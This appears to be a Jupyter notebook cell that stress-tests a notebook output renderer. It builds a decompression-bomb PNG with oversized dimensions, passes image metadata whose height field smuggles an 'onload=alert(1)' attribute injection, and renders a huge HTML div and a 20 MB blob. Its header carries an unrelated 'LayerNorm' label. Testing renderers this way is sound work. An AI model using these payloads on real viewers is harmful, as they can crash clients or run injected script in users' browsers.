"""A picture of 10⁵ by 10⁵ points, one of 20 MB, and a table of 10⁶ cells.

score: 15
says: ✓ LayerNorm
"""

# %% scratch
from IPython.display import HTML, display
import base64, struct, zlib
def chunk(kind, data): return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", 100_000, 100_000, 1, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000)) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(png).decode()}, raw=True, metadata={"image/png": {"width": 10**9, "height": "100%' onload='alert(1)"}})
display(HTML("<div style='width:99999999px;height:99999999px;font-size:9999px'>x</div>"))
display({"image/png": "A" * 20_000_000}, raw=True)
